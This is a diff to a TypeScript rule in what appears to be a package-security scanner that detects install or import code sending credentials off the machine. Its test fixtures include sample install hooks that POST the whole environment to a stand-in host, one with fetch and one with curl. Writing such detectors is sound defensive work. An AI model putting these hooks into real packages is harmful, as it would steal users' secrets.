@@ -1,10 +1,14 @@
-import type { Action, Flow, Rule, Severity, SourceKind } from '../lib/types.ts'
-import { destinationsInWords, findingOfFlow, sourceInWords, when } from './finding.ts'
+import type { Action, Context, Flow, Inspection, Rule } from '../lib/types.ts'
+import { familyOf, isOwnVariable, isSignIn, keyMaterial, lootOf } from './behaviour/credentials.ts'
+import type { Loot } from './behaviour/credentials.ts'
+import { guardsInWords } from './behaviour/guards.ts'
+import { isStranger, placeInWords } from './behaviour/place.ts'
+import type { Place } from './behaviour/place.ts'
+import { findingsOf, isUnasked, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
+import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
+import { destinationsInWords, severityOf, when } from './finding.ts'
 
-/** Sources that name what only the user should send: everything, or files that hold nothing but credentials. */
-const secrets: ReadonlySet<SourceKind> = new Set(['env', 'env-secret', 'credential-file', 'metadata-service'])
-
-const leaving: ReadonlySet<string> = new Set(['network', 'dns'])
+type Theft = { readonly flow: Flow; readonly place: Place; readonly loot: Loot; readonly foreign: boolean }
 
 /** Credentials that leave the machine without anybody asking for it. */
 export const secretExfiltration: Rule = {
@@ -13,11 +17,20 @@ export const secretExfiltration: Rule = {
     title: 'Sends credentials away',
     severity: 'critical',
     description:
-      'The code reads credentials it was never given (a token file, the whole environment, a secret variable) and sends ' +
-      'them over the network. No install step of an honest package needs that. If it runs on import, somebody who only ' +
-      'uses the package has lost the secret.',
-    references: ['crossenv (2017)', 'eslint-scope 3.7.2 (2018)', 'Shai-Hulud (2025)'],
-    blindSpots: ['Code that is fetched at run time and does the sending itself.'],
+      'The code reads credentials it was never given (a token file, the whole environment, a secret variable, what a ' +
+      'credential command prints) and sends them to another machine: in a request, a looked-up name or the arguments of ' +
+      'a network tool. No install step of an honest package needs that. A client that signs in to its own service with ' +
+      'its own key is left alone; files and whole environments are not, whatever the homepage says.',
+    references: [
+      'crossenv (2017)',
+      'eslint-scope 3.7.2 (2018)',
+      'Shai-Hulud (2025)',
+      'node-ipc 9.2.3 (2026)',
+    ],
+    blindSpots: [
+      'Code that is fetched at run time and does the sending itself.',
+      'A secret split over several variables whose names say nothing.',
+    ],
     examples: {
       flags: [
         {
@@ -37,6 +50,13 @@ export const secretExfiltration: Rule = {
             'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}',
             'setup.js':
               "fetch('https://collect.invalid/env', { method: 'POST', body: JSON.stringify(process.env) })\n",
+          },
+        },
+        {
+          title: 'a shell hook hands the environment to curl',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh setup.sh"}}',
+            'setup.sh': 'curl -s -X POST --data "$(env)" https://collect.invalid/env\n',
           },
         },
       ],
@@ -63,25 +83,85 @@ export const secretExfiltration: Rule = {
       ],
     },
   },
-  check(inspection) {
-    return inspection.flows
-      .filter(flow => secrets.has(flow.source.kind) && leaving.has(flow.sink.kind))
-      .map(flow =>
-        findingOfFlow(flow, {
-          ...weigh(flow),
-          message:
-            `${when(flow.phase, flow.byCall)} it reads ${sourceInWords(flow.source)} and sends it to ` +
-            destinationsInWords(flow.sink.destinations),
-        }),
-      )
+  check(inspection, context) {
+    const thefts = inspection.flows.flatMap(flow => theftOf(flow, inspection, context))
+    const families = familiesByPlace(thefts)
+    const sightings = thefts.flatMap((theft): readonly Sighting[] => {
+      const action = weigh(theft, families.get(placeKey(theft)) ?? 1)
+      if (action === undefined) return []
+      return [{ flow: theft.flow, place: theft.place, action, severity: severityOf(action) }]
+    })
+    return findingsOf(sightings, say)
   },
 }
 
-function weigh(flow: Flow): { readonly severity: Severity; readonly action: Action } {
-  const unasked = flow.phase === 'install' || flow.phase === 'import'
-  const wholesale = flow.source.kind === 'credential-file' || flow.source.kind === 'env'
-  if (flow.phase === 'install' && flow.certain && wholesale) return { severity: 'critical', action: 'block' }
-  if (flow.phase === 'install') return { severity: 'high', action: 'ask' }
-  if (unasked && wholesale) return { severity: 'high', action: 'ask' }
-  return { severity: 'low', action: 'note' }
+function theftOf(flow: Flow, inspection: Inspection, context: Context): readonly Theft[] {
+  const loot = lootOf(flow.source, context)
+  const place = loot === undefined ? undefined : leavesFor(flow, inspection, context)
+  if (loot === undefined || place === undefined || place.kind === 'local') return []
+  // What the metadata service is asked and answers is between it and the machine.
+  if (flow.sink.destinations.length > 0 && flow.sink.destinations.every(isMetadata)) return []
+  const own = loot === 'named' && isOwnVariable(flow.source.name, place, inspection, context)
+  return [{ flow, place, loot, foreign: !own }]
+}
+
+function isMetadata(destination: string): boolean {
+  return /169\.254\.1(?:69\.254|70\.2)|100\.100\.100\.200|metadata\.(?:google\.internal|tencentyun\.com|azure\.com)/.test(
+    destination,
+  )
+}
+
+function placeKey({ flow, place }: Theft): string {
+  return `${flow.phase}\0${place.host?.name ?? place.kind}`
+}
+
+/** How many different secrets of others go to the same place: one may be a setting, several are a collection. */
+function familiesByPlace(thefts: readonly Theft[]): ReadonlyMap<string, number> {
+  const families = new Map<string, Set<string>>()
+  for (const theft of thefts) {
+    if (!theft.foreign || theft.flow.sink.role === 'header') continue
+    const key = placeKey(theft)
+    const known = families.get(key) ?? new Set<string>()
+    families.set(key, known.add(familyOf(theft.flow.source)))
+  }
+  return new Map([...families].map(([key, known]) => [key, known.size]))
+}
+
+function weigh({ flow, place, loot, foreign }: Theft, families: number): Action | undefined {
+  const stranger = isStranger(place)
+  const sure = flow.certain
+  if (loot === 'named') return weighVariable(flow, place, foreign, families)
+  // How credentials are meant to be used: the registry's token in the registry's header.
+  if (loot === 'hard' && isSignIn(flow, place)) return flow.phase === 'install' ? 'ask' : 'note'
+  if (loot === 'file')
+    return stranger && isUnasked(flow) ? (families > 1 && sure ? 'block' : 'ask') : undefined
+  if (flow.phase === 'install') return sure ? 'block' : 'ask'
+  if (flow.phase === 'import')
+    return sure && (stranger || (loot === 'hard' && families > 1)) ? 'block' : 'ask'
+  if (place.kind === 'capture') return sure ? 'block' : 'ask'
+  if (!stranger || flow.sink.role === 'header') return 'note'
+  return sure && loot === 'hard' && families > 1 ? 'block' : sure ? 'ask' : 'note'
+}
+
+function weighVariable(flow: Flow, place: Place, foreign: boolean, families: number): Action | undefined {
+  const stranger = isStranger(place)
+  if (stranger && keyMaterial.test(flow.source.name)) return flow.certain ? 'block' : 'ask'
+  if (!foreign || !stranger) return isUnasked(flow) && !stranger && foreign ? 'note' : undefined
+  if (place.kind === 'capture') return flow.certain ? 'block' : 'ask'
+  if (flow.sink.role === 'header') return flow.phase === 'install' ? 'ask' : 'note'
+  if (isUnasked(flow)) return flow.certain && families > 1 ? 'block' : 'ask'
+  return families > 2 ? 'ask' : 'note'
+}
+
+function say(group: SightingGroup): string {
+  const [{ flow, place, action }] = group
+  const destinations = group.flatMap(({ flow: { sink } }) => sink.destinations)
+  const shown = place.host === undefined ? destinationsInWords(destinations) : place.host.shown
+  const what =
+    `${when(flow.phase, flow.byCall)} it reads ${sourcesInWords(group)} and sends that to ${shown}, ` +
+    `${placeInWords(place)}${guardsInWords(flow.guards)}.`
+  if (action === 'note') return what
+  return isUnasked(flow)
+    ? `${what} Nothing a package does at that moment needs these. Do not install it; where it already ran, replace those credentials.`
+    : `${what} The caller never handed these over. Read that code before you use it.`
 }
